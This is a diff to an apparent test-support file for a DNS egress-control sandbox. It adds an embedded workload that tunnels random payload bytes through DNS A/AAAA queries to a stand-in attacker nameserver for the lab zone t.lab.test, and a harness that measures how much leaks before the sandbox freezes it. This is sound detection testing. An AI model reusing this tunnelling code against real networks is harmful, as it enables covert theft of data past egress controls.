@@ -43,7 +43,7 @@ from egress.kernel.cgroup import Cgroup
 from egress.lab import Lab
 from egress.store import claims
 from egress.store.journal import Journal
-from tests.support import SYSTEM_PYTHON
+from tests.support import SYSTEM_PYTHON, channels
 from tests.support.sandboxes import EGRESSCTL, cleanup, env, policy_file, workdir
 
 T_ZONE, D_ZONE = "t.lab.test", "d.lab.test"
@@ -923,3 +923,87 @@ def run_benign(lab: Lab, text: str, timeout: float = 180.0) -> Replay:
             box.stderr(),
             box.id,
         )
+
+
+# -- adaptive channels (tests/support/channels.py) as the sandbox's workload -----------------
+
+CHANNELS_FILE = Path(__file__).resolve().with_name("channels.py")
+
+# Sends a random payload through one channel of channels.py, one query at a time at
+# ``rate`` a second, waiting for each answer, until ``cap`` payload bytes have gone.
+CHANNEL = r"""
+import os, socket, struct, sys, time
+board, index, rate, cap, zone = sys.argv[1:6]
+sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+import channels
+channel = channels.all_channels()[int(index)]
+rate, cap = float(rate), int(cap)
+queries = channel.queries(os.urandom(cap), [zone])
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.settimeout(2)
+print("started", flush=True)
+while not os.path.exists(os.path.join(board, "go")):
+    time.sleep(0.01)
+start = time.monotonic()
+for n, (name, qtype) in enumerate(queries, 1):
+    wire = b"".join(bytes([len(x)]) + x.encode() for x in name.split(".")) + b"\0"
+    s.sendto(struct.pack("!6H", n & 0xFFFF, 0x0100, 1, 0, 0, 0) + wire
+             + struct.pack("!HH", qtype, 1), ("127.0.0.53", 53))
+    try:
+        s.recv(4096)
+    except OSError:
+        pass
+    with open(os.path.join(board, "progress"), "w") as f:
+        f.write(f"{n} {n * channel.payload_bits // 8}\n")
+    time.sleep(max(0.0, start + n / rate - time.monotonic()))
+print("done", flush=True)
+while True:
+    time.sleep(60)
+"""
+QTYPES = {"A": 1, "AAAA": 28}
+
+
+@dataclass
+class ChannelRun:
+    outcome: Outcome
+    decoded: int  # payload bytes the receiver recovered from what reached the lab server
+    sent: int  # payload bytes the workload had sent when it was stopped
+
+
+def run_channel(
+    lab: Lab,
+    index: int,
+    rate: float,
+    cap: int = 8192,
+    tunnel: str = DETECT,
+    timeout: float = 120.0,
+) -> ChannelRun:
+    """Channel ``index`` of ``channels.all_channels()`` as the sandbox's unprivileged
+    workload, against an attacker's nameserver for T_ZONE that answers everything."""
+    channel = channels.all_channels()[index]
+    text = policy(['{name: "**.t.lab.test", types: [A]}'], tunnel)
+    servers = Servers(lab)
+    try:
+        answerer = servers.role("answerer")
+        start_script(lab, answerer, ANSWERER, str(IODINE_PORT), ready="answering")
+        args = (str(index), str(rate), str(cap), T_ZONE)
+        files = {"channels.py": CHANNELS_FILE.read_text()}
+        with sandbox(lab, text, CHANNEL, *args, files=files) as box:
+            lab.clear_queries()
+            started = time.time()
+            (box.board / "go").touch()
+            done = box.board / "progress"
+
+            def finished() -> bool:
+                return progress(done)[1] >= cap
+
+            freeze = box.wait_frozen(timeout, give_up=finished)
+            out = _outcome(
+                box, lab, "channel", "A", channel.name, T_ZONE, freeze, started, done, [], None
+            )
+            _end(box, out)
+            got = [(q["qname"], QTYPES.get(q.get("qtype") or "A", 1)) for q in out.queries]
+            decoded = len(channel.decode_all(got, [T_ZONE]))
+        return ChannelRun(out, decoded, progress(done)[1])
+    finally:
+        servers.stop()
